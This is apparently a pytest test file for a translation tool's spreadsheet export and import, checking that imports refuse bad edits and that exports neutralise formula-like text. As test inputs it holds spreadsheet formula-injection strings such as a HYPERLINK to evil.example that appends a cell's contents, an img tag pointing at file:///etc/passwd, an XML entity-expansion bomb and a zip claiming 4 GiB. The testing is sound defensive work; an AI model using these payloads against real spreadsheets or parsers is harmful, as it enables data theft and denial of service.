"""The translator's spreadsheet round trip: export, edit as a translator would, import."""

from __future__ import annotations

import csv
import hashlib
import io
import re
import zipfile

import polib
import pytest
from helpers import edit, translate_all
from hypothesis import HealthCheck, assume, given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook

from generator import catalogs
from generator.errors import KyrError
from generator.i18n import markup_problems
from generator.spreadsheet import export, header, import_sheet


def digests(root, lang="es") -> dict[str, str]:
    return {domain: hashlib.sha256(catalogs.po_path(root, lang, domain).read_bytes()).hexdigest() for domain in ("content", "templates")}


def entry(root, context, domain="content", english=None):
    po = catalogs.read(catalogs.po_path(root, "es", domain), root)
    return next(e for e in po if e.msgctxt == context and (english is None or e.msgid == english) and not e.obsolete)


def set_translation(path, sheet, context, text, english_prefix=""):
    """Type ``text`` into a unit's translation cell, as Excel stores it (a leading '=' makes a formula)."""
    book = load_workbook(path)
    rows = book[sheet].iter_rows(min_row=2)
    row = next(r for r in rows if r[0].value == context and (r[2].value or "").startswith(english_prefix))
    row[4].value = text
    book.save(path)
    return row[4].coordinate


def csv_rows(path) -> list[list[str]]:
    return list(csv.reader(io.StringIO(path.read_bytes().decode("utf-8-sig"), newline="")))


def write_csv(path, rows, delimiter=",") -> None:
    buffer = io.StringIO()
    csv.writer(buffer, delimiter=delimiter, lineterminator="\r\n").writerows(rows)
    path.write_bytes(buffer.getvalue().encode("utf-8-sig"))


@pytest.fixture
def mini_es(mini):
    """The mini pack with a complete Spanish translation, catalogs as the project writes them."""
    catalogs.init(mini, "es")
    catalogs.add_language(mini, "es")
    translate_all(mini)
    for domain in ("content", "templates"):
        path = catalogs.po_path(mini, "es", domain)
        catalogs.save(catalogs.read(path, mini), path)
    return mini


# The round trip


@pytest.mark.parametrize("fmt", ["xlsx", "csv"])
def test_an_unedited_round_trip_of_the_shipped_pack_leaves_the_catalogs_byte_identical(shipped, run, fmt):
    before = digests(shipped)
    sheet = shipped / f"es.{fmt}"
    exported = run("i18n", "export", "--project", str(shipped), "--lang", "es", "--output", str(sheet))
    assert exported.exit_code == 0, exported.output
    units = {domain: sum(1 for e in polib.pofile(str(shipped / f"locales/es/LC_MESSAGES/{domain}.po")) if not e.obsolete) for domain in ("content", "templates")}
    assert f"(content {units['content']}, templates {units['templates']})" in exported.output
    imported = run("i18n", "import", "--project", str(shipped), str(sheet))
    assert imported.exit_code == 0, imported.output
    assert "nothing changed: the es catalogs are as they were" in imported.output
    assert digests(shipped) == before


def test_an_edited_translation_rewrites_only_its_own_line(shipped):
    po_file = catalogs.po_path(shipped, "es", "content")
    before, templates = po_file.read_text(encoding="utf-8").splitlines(), digests(shipped)["templates"]
    sheet = shipped / "es.xlsx"
    export(shipped, "es", sheet)
    old = entry(shipped, "q07.body.3").msgstr
    set_translation(sheet, "content", "q07.body.3", old.replace("Revisar el estatus", "Revisan el estatus"))
    done = import_sheet(shipped, sheet)
    assert (done.changed, done.written) == (1, [po_file])
    after = po_file.read_text(encoding="utf-8").splitlines()
    changed = [(a, b) for a, b in zip(before, after, strict=True) if a != b]
    assert changed == [(f'msgstr "{polib.escape(old)}"', f'msgstr "{polib.escape(old).replace("Revisar el estatus", "Revisan el estatus")}"')]
    assert digests(shipped)["templates"] == templates


def test_the_xlsx_locks_every_column_but_the_translation(mini_es):
    sheet = mini_es / "es.xlsx"
    export(mini_es, "es", sheet)
    book = load_workbook(sheet)
    assert book.sheetnames == ["content", "templates", "read me"]
    content = book["content"]
    assert [c.value for c in content[1]] == list(header("es"))
    assert [c.value for c in content[1]][4] == "translation (es)"
    assert all(title.endswith("(do not edit)") for title in header("es") if not title.startswith("translation"))
    assert content.protection.sheet
    row = next(r for r in content.iter_rows(min_row=2) if r[0].value == "q02.body.1")
    assert [c.protection.locked for c in row] == [True, True, True, True, False, True, True]
    assert row[4].number_format == "@"
    assert row[1].value == "es/booklet"  # where it prints: the full answer is only in the booklet
    assert row[2].value == "Call a legal aid group before you apply. See [our site](https://example.org/help)."
    assert row[5].value.startswith("q02 · full answer, part 1 (Markdown: keep **bold** and [links](…))")
    assert 'glossary: "legal aid" = es:' in row[5].value
    assert row[6].value == "translated"
    templates = book["templates"]
    help_row = next(r for r in templates.iter_rows(min_row=2) if r[2].value == "Free legal help")
    assert help_row[0].value == "help" and help_row[1].value.startswith("every document whose template uses ")


def test_the_csv_has_a_catalog_column_and_a_byte_order_mark(mini_es):
    sheet = mini_es / "es.csv"
    done = export(mini_es, "es", sheet)
    assert done.format == "csv"
    data = sheet.read_bytes()
    assert data.startswith(b"\xef\xbb\xbf") and b"\r\n" in data
    rows = csv_rows(sheet)
    assert rows[0] == list(header("es", catalog_column=True))
    assert {row[0] for row in rows[1:]} == {"content", "templates"}


# What import refuses, with the cell that holds it


def test_an_added_or_changed_link_is_refused_with_its_cell_and_nothing_is_written(mini_es, run):
    before = digests(mini_es)
    sheet = mini_es / "es.xlsx"
    export(mini_es, "es", sheet)
    changed = set_translation(sheet, "content", "q02.body.1", "Llame antes de solicitar. Vea [nuestro sitio](https://evil.example/).")
    added = set_translation(sheet, "content", "q01.body.1", "La oficina guarda su nombre. [Más](https://evil.example/)")
    set_translation(sheet, "content", "q01.short", "Una traducción buena, que tampoco se escribe.")
    result = run("i18n", "import", "--project", str(mini_es), str(sheet))
    assert result.exit_code == 1
    lines = result.output.strip().splitlines()
    assert f"{sheet}:content!{changed}: q02.body.1: link targets differ from the English: expected ['https://example.org/help'], got ['https://evil.example/']" in lines
    assert f"{sheet}:content!{added}: q01.body.1: link targets differ from the English: expected none, got ['https://evil.example/']" in lines
    assert "Traceback" not in result.output
    assert digests(mini_es) == before


def test_a_changed_placeholder_or_added_tag_in_a_template_string_is_refused(mini_es):
    sheet = mini_es / "es.xlsx"
    export(mini_es, "es", sheet)
    placeholder = set_translation(sheet, "templates", "facts", "Vigente al %(fecha)s.", "Accurate as of")
    tag = set_translation(sheet, "templates", "help", 'Ayuda <img src="file:///etc/passwd">', "Free legal help")
    with pytest.raises(KyrError) as info:
        import_sheet(mini_es, sheet)
    found = [str(p) for p in info.value.problems]
    assert f"{sheet}:templates!{placeholder}: facts: 'Accurate as of %(date)s.': placeholders differ from the English: expected ['%(date)s'], got ['%(fecha)s']" in found
    assert any(p.startswith(f"{sheet}:templates!{tag}: help: 'Free legal help': markup tags differ") for p in found)


def test_a_formula_typed_in_the_sheet_is_refused_never_evaluated(mini_es):
    before = digests(mini_es)
    sheet = mini_es / "es.xlsx"
    export(mini_es, "es", sheet)
    cell = set_translation(sheet, "content", "q01.short", '=HYPERLINK("https://evil.example","Haga clic")')
    with pytest.raises(KyrError) as info:
        import_sheet(mini_es, sheet)
    assert [str(p) for p in info.value.problems] == [f'{sheet}:content!{cell}: formulas are not allowed: =HYPERLINK("https://evil.example","Haga clic"); type the text itself']
    assert digests(mini_es) == before


def test_numbers_and_dates_typed_in_a_general_cell_are_refused(mini_es):
    sheet = mini_es / "es.xlsx"
    export(mini_es, "es", sheet)
    number = set_translation(sheet, "content", "q01.short", 2026)
    with pytest.raises(KyrError, match=rf"content!{number}: holds a number or true/false \(2026\), not text: format the cell as Text"):
        import_sheet(mini_es, sheet)


def test_an_xlsx_with_an_xml_entity_bomb_is_one_located_line(mini_es, run):
    sheet = mini_es / "es.xlsx"
    export(mini_es, "es", sheet)
    with zipfile.ZipFile(sheet) as archive:
        parts = {name: archive.read(name) for name in archive.namelist()}
    bomb = '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]>'
    parts["xl/worksheets/sheet1.xml"] = parts["xl/worksheets/sheet1.xml"].replace(b'<?xml version="1.0" encoding="utf-8"?>', b"").replace(b"<worksheet", bomb.encode() + b"<worksheet", 1)
    with zipfile.ZipFile(sheet, "w") as archive:
        for name, data in parts.items():
            archive.writestr(name, data)
    result = run("i18n", "import", "--project", str(mini_es), str(sheet))
    assert result.exit_code == 1
    assert result.output.startswith(f"{sheet}: not a readable .xlsx file (") and len(result.output.strip().splitlines()) == 1


def _zip_claiming_4_gib() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("xl/worksheets/sheet1.xml", b"<worksheet/>")
    data = bytearray(buffer.getvalue())
    central = data.index(b"PK\x01\x02")
    data[central + 24 : central + 28] = (0xFFFFFFF0).to_bytes(4, "little")  # the size it says it unpacks to
    return bytes(data)


@pytest.mark.parametrize(
    ("data", "message"),
    [
        (_zip_claiming_4_gib(), "unpacks to 4095 MiB, far more than a translation sheet: export it again"),
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(512), "a password-protected or old (.xls) Excel file: save it as .xlsx without a password"),
        ("catalog,context\r\nq01.short,Año\r\n".encode("cp1252"), "not UTF-8 text: save it as 'CSV UTF-8' (Excel) or with the UTF-8 character set"),
        (b"id,name\r\n1,2\r\n", ":A1: expected the header row 'kyr i18n export' writes, starting with 'catalog (do not edit)': export again"),
    ],
)
def test_a_file_that_is_not_an_export_is_one_located_line(mini_es, run, data, message):
    before = digests(mini_es)
    sheet = mini_es / "sheet"
    sheet.write_bytes(data)
    result = run("i18n", "import", "--project", str(mini_es), str(sheet))
    assert result.exit_code == 1
    assert result.output.strip().splitlines() == [f"{sheet}{'' if message.startswith(':') else ': '}{message}"]
    assert digests(mini_es) == before


def test_a_row_whose_english_changed_since_the_export_is_refused(mini_es, run):
    sheet = mini_es / "es.xlsx"
    export(mini_es, "es", sheet)
    cell = set_translation(sheet, "content", "q01.body.2", "Puede compartir su domicilio.")
    edit(mini_es / "content/questions/q01-data.md", "It can share your address.", "It can share your home address.")
    run("i18n", "update", "--project", str(mini_es))
    before = digests(mini_es)
    with pytest.raises(KyrError) as info:
        import_sheet(mini_es, sheet)
    assert [str(p) for p in info.value.problems] == [
        f"{sheet}:content!C{cell[1:]}: q01.body.2: this is not the catalog's English any more (the content changed since the export, or the cell was edited): export again"
    ]
    assert digests(mini_es) == before


def test_export_refuses_catalogs_older_than_the_content(mini_es, run):
    edit(mini_es / "content/questions/q01-data.md", "It can share your address.", "It can share your home address.")
    result = run("i18n", "export", "--project", str(mini_es), "--lang", "es", "--output", str(mini_es / "es.xlsx"))
    assert result.exit_code == 1
    assert result.output.strip() == "locales/es/LC_MESSAGES/content.po: out of date with the content (1 unit(s), e.g. q01.body.2): run 'kyr i18n update' first, so nobody translates old English"
    assert not (mini_es / "es.xlsx").exists()


def test_a_missed_glossary_term_is_a_warning_and_the_translation_is_kept(mini_es, run):
    sheet = mini_es / "es.xlsx"
    export(mini_es, "es", sheet)
    cell = set_translation(sheet, "content", "q02.short", "Llame a un grupo. La llamada es gratis.")
    result = run("i18n", "import", "--project", str(mini_es), str(sheet))
    assert result.exit_code == 0, result.output
    assert f"{sheet}:content!{cell}: warning: q02.short: glossary term 'legal aid' should be translated as" in result.output
    assert entry(mini_es, "q02.short").msgstr == "Llame a un grupo. La llamada es gratis."


# Fuzzy units, filters, emptied cells


def test_filling_a_fuzzy_unit_clears_its_flag_and_the_language_builds(mini_es, run):
    edit(mini_es / "content/questions/q01-data.md", "It can share your address.", "It can share your home address.")
    run("i18n", "update", "--project", str(mini_es))
    sheet = mini_es / "fuzzy.csv"
    assert run("i18n", "export", "--project", str(mini_es), "--lang", "es", "--only", "fuzzy,untranslated", "--output", str(sheet)).exit_code == 0
    rows = csv_rows(sheet)
    assert [row[1:] for row in rows[1:]] == [
        ["q01.body.2", "es/booklet", "It can share your home address.", "It can share your address.", "ES It can share your address.", rows[1][6], "fuzzy"]
    ]
    unedited = import_sheet(mini_es, sheet)
    assert unedited.changed == 0 and entry(mini_es, "q01.body.2").fuzzy  # nobody has read the new English yet
    rows[1][5] = "Puede compartir la dirección de su casa."
    write_csv(sheet, rows)
    done = import_sheet(mini_es, sheet)
    assert (done.changed, done.refreshed) == (1, 1)
    fixed = entry(mini_es, "q01.body.2")
    assert (fixed.msgstr, fixed.fuzzy, fixed.previous_msgid) == ("Puede compartir la dirección de su casa.", False, None)
    assert "#|" not in catalogs.po_path(mini_es, "es", "content").read_text()
    assert run("build", "--project", str(mini_es), "--lang", "es", "--doc", "handout").exit_code == 0


def test_emptying_a_cell_removes_the_translation(mini_es):
    sheet = mini_es / "es.csv"
    export(mini_es, "es", sheet)
    rows = csv_rows(sheet)
    next(row for row in rows if row[1] == "q01.short")[5] = "  "
    write_csv(sheet, rows)
    done = import_sheet(mini_es, sheet)
    assert (done.changed, done.cleared) == (0, 1)
    assert entry(mini_es, "q01.short").msgstr == ""


def test_a_csv_saved_by_a_spanish_excel_reads_back_and_a_windows_encoding_is_named(mini_es):
    sheet = mini_es / "es.csv"
    export(mini_es, "es", sheet)
    rows = csv_rows(sheet)
    next(row for row in rows if row[1] == "q01.short")[5] = "Pueden compartir su nombre y dirección.\nPida ayuda antes."
    write_csv(sheet, rows, delimiter=";")
    sheet.write_bytes(sheet.read_bytes().replace(b"\nPida", b"\r\nPida"))
    assert import_sheet(mini_es, sheet).changed == 1
    assert entry(mini_es, "q01.short").msgstr == "Pueden compartir su nombre y dirección.\nPida ayuda antes."
    sheet.write_bytes(sheet.read_bytes().decode("utf-8-sig").encode("cp1252"))
    with pytest.raises(KyrError, match=r"es\.csv: not UTF-8 text: save it as 'CSV UTF-8'"):
        import_sheet(mini_es, sheet)


def test_bad_export_options_are_one_line_each(mini_es, run):
    only = run("i18n", "export", "--project", str(mini_es), "--lang", "es", "--only", "done", "--output", "x.xlsx")
    assert (only.exit_code, only.output.strip()) == (1, "command line: --only takes translated, fuzzy, untranslated (comma-separated), got 'done'")
    clash = run("i18n", "export", "--project", str(mini_es), "--lang", "es", "--format", "csv", "--output", "x.xlsx")
    assert clash.exit_code == 1 and "--format csv does not match the file name 'x.xlsx'" in clash.output
    english = run("i18n", "export", "--project", str(mini_es), "--lang", "en", "--output", "x.xlsx")
    assert english.exit_code == 1 and "--lang 'en' is not a translation of this pack; it has: es" in english.output


# Formula injection on export


@pytest.mark.parametrize("text", ['=HYPERLINK("https://evil.example/?"&A1,"Clic")', "+1 800 555 0199", "-2+3", "@SUM(1)", "'=already quoted"])
def test_a_catalog_text_that_looks_like_a_formula_is_exported_as_text(mini_es, text):
    path = catalogs.po_path(mini_es, "es", "content")
    po = catalogs.read(path, mini_es)
    next(e for e in po if e.msgctxt == "q01.short").msgstr = text
    catalogs.save(po, path)
    before = digests(mini_es)

    export(mini_es, "es", mini_es / "es.xlsx")
    cell = next(r for r in load_workbook(mini_es / "es.xlsx")["content"].iter_rows(min_row=2) if r[0].value == "q01.short")[4]
    assert (cell.data_type, cell.value) == ("s", text)
    assert cell.quotePrefix == text.startswith(("=", "+", "-", "@"))
    with zipfile.ZipFile(mini_es / "es.xlsx") as archive:
        assert not any(re.search(r"<f[ >]", archive.read(name).decode()) for name in archive.namelist() if name.startswith("xl/worksheets/"))

    export(mini_es, "es", mini_es / "es.csv")
    exported = next(row for row in csv_rows(mini_es / "es.csv") if row[1] == "q01.short")[5]
    assert exported == "'" + text  # spreadsheets show a leading apostrophe as text and never run it

    for sheet in ("es.xlsx", "es.csv"):
        assert import_sheet(mini_es, mini_es / sheet).changed == 0
    assert digests(mini_es) == before


# Fuzzing: the only outcomes are a merge or located problems, and a refused file writes nothing

fuzz = settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow])
texts = st.text(alphabet=st.characters(blacklist_categories=("Cs",)), max_size=80)


def _assert_all_or_nothing(root, sheet, before) -> None:
    try:
        import_sheet(root, sheet)
    except KyrError as exc:
        assert exc.problems and all(str(p).startswith(str(sheet)) for p in exc.problems), exc.problems
        assert digests(root) == before
    for domain in ("content", "templates"):
        for e in catalogs.read(catalogs.po_path(root, "es", domain), root):
            assert e.fuzzy or not e.msgstr or not markup_problems(e.msgid, e.msgstr)


def _restore(root, saved) -> None:
    for domain, data in saved.items():
        catalogs.po_path(root, "es", domain).write_bytes(data)


@fuzz
@given(body=st.one_of(st.binary(max_size=400), texts.map(lambda t: ("\ufeff" + ",".join(header("es", True)) + "\r\n" + t).encode())))
def test_fuzz_import_of_arbitrary_files(mini_es, body):
    sheet = mini_es / "fuzz.csv"
    sheet.write_bytes(body)
    _assert_all_or_nothing(mini_es, sheet, digests(mini_es))


@fuzz
@given(data=st.data())
def test_fuzz_import_of_edited_rows(mini_es, data):
    """Rows as a careless translator leaves them: real or made-up units, any text, formulas, numbers."""
    saved = {domain: catalogs.po_path(mini_es, "es", domain).read_bytes() for domain in ("content", "templates")}
    units = [(e.msgctxt, e.msgid) for e in catalogs.read(catalogs.po_path(mini_es, "es", "content"), mini_es)]
    unit = st.sampled_from(units) | st.tuples(texts, texts)
    translation = st.one_of(texts, st.sampled_from(["", "=1+1", "'=1+1", "[x](https://evil.example/)", "%(date)s", "<b>x</b>"]), st.integers(), st.booleans())
    rows = data.draw(st.lists(st.tuples(unit, translation), max_size=6))
    fmt = data.draw(st.sampled_from(["xlsx", "csv"]))
    sheet = mini_es / f"fuzz.{fmt}"
    if fmt == "csv":
        write_csv(sheet, [header("es", True), *(["content", c, "", e, "", str(t), "", ""] for (c, e), t in rows)])
    else:
        from openpyxl import Workbook

        book = Workbook()
        content = book.active
        content.title = "content"
        content.append(header("es"))
        from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

        def cell(value):  # what an .xlsx can hold at all
            return ILLEGAL_CHARACTERS_RE.sub("", value) if isinstance(value, str) else value

        for (context, english), value in rows:
            content.append([cell(context), "", cell(english), "", cell(value), "", ""])  # openpyxl stores "=…" as a formula, as Excel does
        book.save(sheet)
    before = digests(mini_es)
    try:
        _assert_all_or_nothing(mini_es, sheet, before)
    finally:
        _restore(mini_es, saved)


@fuzz
@given(text=texts, fmt=st.sampled_from(["xlsx", "csv"]))
def test_fuzz_any_text_a_translator_types_comes_back_exactly(mini_es, text, fmt):
    text = text.replace("\r\n", "\n").replace("\r", "\n")
    assume(text.strip() and not markup_problems("Your name and address can be shared. Ask for help first.", text))
    if fmt == "xlsx":
        from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

        assume(not ILLEGAL_CHARACTERS_RE.search(text))  # no .xlsx can hold these at all
    unsafe = re.search("[\x00-\x08\x0b-\x1f\x7f\x85\u2028\u2029\ufffe\uffff]", text)
    saved = {domain: catalogs.po_path(mini_es, "es", domain).read_bytes() for domain in ("content", "templates")}
    sheet = mini_es / f"es.{fmt}"
    if not sheet.exists():
        export(mini_es, "es", sheet)
    if fmt == "xlsx":
        book = load_workbook(sheet)
        cell = next(r for r in book["content"].iter_rows(min_row=2) if r[0].value == "q01.short")[4]
        cell.value, cell.data_type = text, "s"  # typed into a Text cell: kept as text, even "=…"
        edited = mini_es / "edited.xlsx"
        book.save(edited)
    else:
        rows = csv_rows(sheet)
        row = next(row for row in rows if row[1] == "q01.short")
        row[5] = "'" + text if re.match(r"^'*[=+\-@\t]", text) else text  # as the exporter would quote it
        edited = mini_es / "edited.csv"
        write_csv(edited, rows)
    try:
        if unsafe:
            with pytest.raises(KyrError, match=r"q01\.short: holds a control character or line separator"):
                import_sheet(mini_es, edited)
        else:
            import_sheet(mini_es, edited)
            assert entry(mini_es, "q01.short").msgstr == text
    finally:
        _restore(mini_es, saved)


@fuzz
@given(damage=st.lists(st.tuples(st.integers(min_value=0), st.integers(min_value=0, max_value=255)), min_size=1, max_size=8))
def test_fuzz_import_of_a_damaged_xlsx(mini_es, damage):
    sheet = mini_es / "es.xlsx"
    if not sheet.exists():
        export(mini_es, "es", sheet)
    data = bytearray(sheet.read_bytes())
    for position, value in damage:
        data[position % len(data)] = value
    damaged = mini_es / "damaged.xlsx"
    damaged.write_bytes(bytes(data))
    _assert_all_or_nothing(mini_es, damaged, digests(mini_es))
